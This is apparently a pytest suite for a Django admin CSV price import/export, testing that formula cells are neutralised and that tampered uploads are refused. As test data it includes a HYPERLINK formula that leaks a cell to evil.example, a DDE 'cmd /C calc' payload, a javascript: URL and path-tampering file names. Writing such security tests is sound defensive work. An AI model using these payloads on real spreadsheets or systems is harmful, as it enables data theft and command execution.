"""Price files as spreadsheets write them, and the confirm step that applies only the
editor's own upload (issue 10: formula cells, encodings, foreign file names)."""

import csv
import datetime as dt
import io
import json
import os
import tempfile
import time
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from catalog.models import Certification
from certsite import csvsafe
from editorial import uploads
from tests.conftest import make_certification

from .conftest import client_for, make_editor

IMPORT = "/admin/catalog/certification/import/"
CONFIRM = "/admin/catalog/certification/process_import/"
EXPORT = "/admin/catalog/certification/export/"
SOURCE = "https://example.com/2027-fees"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"details")'


@pytest.fixture
def certs(db):
    return {
        "alpha": make_certification(slug="alpha", name="Alpha – Pro", cost_amount=Decimal("200")),
        "beta": make_certification(slug="beta", name=FORMULA, cost_amount=Decimal("150")),
    }


def upload(client, content: bytes, name="prices.csv"):
    file = SimpleUploadedFile(name, content, content_type="text/csv")
    return client.post(
        IMPORT, {"format": "0", "resource": "0", "source_url": SOURCE, "import_file": file}
    )


def confirm_data(response) -> dict:
    initial = response.context["confirm_form"].initial
    return initial | {"versions": json.dumps(initial["versions"])}


def messages_of(response) -> list[str]:
    return [str(m) for m in response.wsgi_request._messages]


# Formula cells ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "value", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1", "=1"]
)
def test_cells_a_spreadsheet_would_run_are_neutralised_and_restored(value):
    safe = csvsafe.cell(value)
    assert safe == "'" + value
    assert csvsafe.restore(safe) == value


@pytest.mark.parametrize(
    "value", ["-12.50", "+3", "-0.5", "1e3", "250", "", "Alpha – Pro", "'quoted", "a=b"]
)
def test_plain_numbers_and_text_are_left_alone(value):
    assert csvsafe.cell(value) == value
    assert csvsafe.restore(csvsafe.cell(value)) == value


def test_restore_undoes_only_what_cell_added():
    # An apostrophe a person typed before ordinary text stays.
    assert csvsafe.restore("'hello") == "'hello"
    assert csvsafe.restore("'-5") == "'-5"
    assert csvsafe.cell(None) == ""


def test_the_public_csv_export_neutralises_formula_cells(client, db):
    make_certification(slug="evil", name=FORMULA, focus="@SUM(A1)", exam_code="-1+1")
    response = client.get("/certifications/export.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["name"] == "'" + FORMULA
    assert row["focus"] == "'@SUM(A1)"
    assert row["exam_code"] == "'-1+1"
    assert row["cost_amount"] == "200.00"  # numbers are untouched
    assert not any(value.startswith(csvsafe.FORMULA_STARTS) for value in row.values())


def test_the_admin_export_is_utf8_with_bom_and_neutralises_formula_cells(editor_client, certs):
    response = editor_client.get(EXPORT)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(csvsafe.BOM.encode())
    rows = {r["slug"]: r for r in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))}
    assert rows["alpha"]["name"] == "Alpha – Pro"  # "–" survives as UTF-8
    assert rows["beta"]["name"] == "'" + FORMULA
    for row in rows.values():
        assert not any(value.startswith(csvsafe.FORMULA_STARTS) for value in row.values())


def test_an_exported_file_imported_again_changes_nothing(editor_client, certs):
    exported = editor_client.get(EXPORT).content
    response = upload(editor_client, exported)
    assert response.status_code == 200
    assert "0 certifications will change; 2 unchanged" in response.content.decode()
    editor_client.post(CONFIRM, confirm_data(response))
    assert all(c.history.count() == 1 for c in Certification.objects.all())


# Encodings ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "cp1252"], ids=["utf8", "utf8-bom", "excel-cp1252"]
)
def test_utf8_with_or_without_bom_and_excel_cp1252_are_read(editor_client, certs, encoding):
    text = (
        "slug,name,cost_amount,cost_currency,billing\r\nalpha,Alpha – Pro,€1250,EUR,per-attempt\r\n"
    )
    response = upload(editor_client, text.encode(encoding))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Cost amount: <del>200.00</del> → <ins>1250.00</ins>" in html
    assert editor_client.post(CONFIRM, confirm_data(response)).status_code == 302
    assert Certification.objects.get(slug="alpha").cost_amount == Decimal("1250")


@pytest.mark.parametrize(
    "content",
    [
        "slug,cost_amount\r\nalpha,250\r\n".encode("utf-16"),
        "slug,cost_amount\r\nalpha,250\r\n".encode("utf-16-le"),
        bytes(range(256)) * 4,
        b"PK\x03\x04\x14\x00\x06\x00",  # an .xlsx file
        b"slug,cost_amount\r\nalpha,2\x0150\r\n",
    ],
    ids=["utf16-bom", "utf16-no-bom", "binary", "xlsx", "control-character"],
)
def test_other_files_are_refused_with_a_clear_message(editor_client, certs, content):
    response = upload(editor_client, content)
    assert response.status_code == 200
    errors = response.context["form"].errors["import_file"]
    assert "CSV UTF-8 (comma delimited)" in errors[0]
    assert "UnicodeDecodeError" not in response.content.decode()
    assert "confirm_form" not in response.context or not response.context["confirm_form"]


# The confirm step --------------------------------------------------------------------


def test_the_confirm_form_shows_no_server_path(editor_client, certs, import_dir):
    response = upload(editor_client, b"slug,cost_amount\r\nalpha,250\r\n")
    html = response.content.decode()
    assert str(import_dir) not in html and tempfile.gettempdir() not in html
    (stored,) = os.listdir(import_dir)
    assert stored not in html  # only the signed name travels
    assert os.path.dirname(stored) == ""


def test_another_editors_upload_cannot_be_confirmed(db, certs, import_dir):
    alice, bob = make_editor("alice"), make_editor("bob")
    alice_client, bob_client = client_for(alice), client_for(bob)
    previewed = upload(alice_client, b"slug,cost_amount\r\nalpha,250\r\n")
    response = bob_client.post(CONFIRM, confirm_data(previewed))
    assert response.status_code == 302
    assert response["Location"] == IMPORT
    assert "This confirmation is not valid: upload the file again." in messages_of(response)[0]
    assert Certification.objects.get(slug="alpha").cost_amount == Decimal("200")
    assert len(os.listdir(import_dir)) == 1  # alice's upload is still there for her
    assert alice_client.post(CONFIRM, confirm_data(previewed)).status_code == 302
    assert Certification.objects.get(slug="alpha").cost_amount == Decimal("250")
    assert os.listdir(import_dir) == []


@pytest.mark.parametrize("how", ["raw-name", "temp-file", "path", "resigned-other-salt", "empty"])
def test_a_tampered_file_name_is_refused_and_nothing_is_read_or_deleted(
    editor_client, certs, import_dir, how
):
    previewed = upload(editor_client, b"slug,cost_amount\r\nalpha,250\r\n")
    (stored,) = os.listdir(import_dir)
    with tempfile.NamedTemporaryFile("w", suffix=".csv", delete=False) as victim:
        victim.write("slug,cost_amount\r\nalpha,999\r\n")
    from django.core import signing

    name = {
        "raw-name": stored,
        "temp-file": os.path.basename(victim.name),
        "path": victim.name,
        "resigned-other-salt": signing.dumps({"name": stored, "user": 1}),
        "empty": "",
    }[how]
    try:
        response = editor_client.post(CONFIRM, confirm_data(previewed) | {"import_file_name": name})
        assert response.status_code == 302
        assert "Nothing was imported" in messages_of(response)[0]
        assert os.path.exists(victim.name)  # not deleted
        assert os.listdir(import_dir) == [stored]
        assert Certification.objects.get(slug="alpha").cost_amount == Decimal("200")
    finally:
        os.remove(victim.name)


def test_a_confirmation_used_twice_imports_once(editor_client, certs):
    previewed = upload(editor_client, b"slug,cost_amount\r\nalpha,250\r\n")
    assert editor_client.post(CONFIRM, confirm_data(previewed)).status_code == 302
    again = editor_client.post(CONFIRM, confirm_data(previewed))
    assert again.status_code == 302
    assert "already been imported or has expired" in messages_of(again)[-1]
    assert Certification.objects.get(slug="alpha").history.count() == 2


def test_an_expired_preview_is_refused(editor_client, certs, monkeypatch):
    previewed = upload(editor_client, b"slug,cost_amount\r\nalpha,250\r\n")
    monkeypatch.setattr(uploads, "MAX_AGE", dt.timedelta(seconds=-1))
    response = editor_client.post(CONFIRM, confirm_data(previewed))
    assert "This preview has expired" in messages_of(response)[0]
    assert Certification.objects.get(slug="alpha").cost_amount == Decimal("200")


@pytest.mark.parametrize(
    "tampered",
    [
        {"format": "abc"},
        {"format": "9"},
        {"format": ""},
        {"resource": "9"},
        {"resource": "x"},
        {"versions": "{not json"},
        {"versions": '["a"]'},
        {"versions": '{"alpha": "1"}'},
        {"source_url": "javascript:alert(1)"},
        {"original_file_name": ""},
    ],
)
def test_a_tampered_confirmation_is_explained_not_a_500(editor_client, certs, tampered):
    previewed = upload(editor_client, b"slug,cost_amount\r\nalpha,250\r\n")
    response = editor_client.post(CONFIRM, confirm_data(previewed) | tampered)
    assert response.status_code == 302
    assert response["Location"] == IMPORT
    assert messages_of(response)[0].startswith("Nothing was imported.")
    assert Certification.objects.get(slug="alpha").cost_amount == Decimal("200")


def test_a_confirmation_without_fields_is_explained(editor_client, certs):
    response = editor_client.post(CONFIRM, {})
    assert response.status_code == 302
    assert editor_client.get(CONFIRM).status_code == 405


def test_abandoned_uploads_are_removed_by_the_next_upload(editor_client, certs, import_dir):
    import_dir.mkdir(parents=True, exist_ok=True)
    old, recent, other = (
        import_dir / n for n in ("a" * 32 + ".csv", "b" * 32 + ".csv", "keep.txt")
    )
    for path in (old, recent, other):
        path.write_text("slug\r\n")
    seven_hours_ago = time.time() - 7 * 3600
    os.utime(old, (seven_hours_ago, seven_hours_ago))
    os.utime(other, (seven_hours_ago, seven_hours_ago))
    upload(editor_client, b"slug,cost_amount\r\nalpha,250\r\n")
    assert not old.exists()
    assert recent.exists() and other.exists()  # recent previews and foreign files stay
    assert len(os.listdir(import_dir)) == 3


# Export query strings ------------------------------------------------------------------


@pytest.mark.parametrize(
    "query",
    ["foo=1", "providers__id__exact=abc", "%00=1", "verified__gt=x"],
)
def test_export_with_filters_the_list_does_not_have_is_explained(editor_client, certs, query):
    response = editor_client.get(f"{EXPORT}?{query}")
    assert response.status_code == 302
    assert response["Location"] == "/admin/catalog/certification/"
    assert "Nothing was exported" in messages_of(response)[0]


@pytest.mark.parametrize("query", ["q=%00", "billing__exact=%00"])
def test_export_with_nul_in_a_filter_exports_without_it(editor_client, certs, query):
    response = editor_client.get(f"{EXPORT}?{query}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_export_follows_the_lists_filters(editor_client, certs):
    Certification.objects.filter(slug="beta").update(billing="per-month")
    response = editor_client.get(f"{EXPORT}?billing__exact=per-month&q=")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["slug"] for r in rows] == ["beta"]


@pytest.mark.parametrize("content", [b"\r\n\r\n", b",,\r\nalpha,250\r\n", b"\xef\xbb\xbf"])
def test_a_file_without_a_header_row_is_explained(editor_client, certs, content):
    response = upload(editor_client, content)
    assert response.status_code == 200
    assert (
        "The first row must name the columns" in response.context["form"].errors["import_file"][0]
    )


def test_a_file_larger_than_any_price_list_is_refused(editor_client, certs, monkeypatch):
    from editorial import prices

    monkeypatch.setattr(prices, "MAX_UPLOAD_BYTES", 100)
    response = upload(editor_client, b"slug,cost_amount\r\n" + b"alpha,250\r\n" * 20)
    assert "a price file is at most" in response.context["form"].errors["import_file"][0]
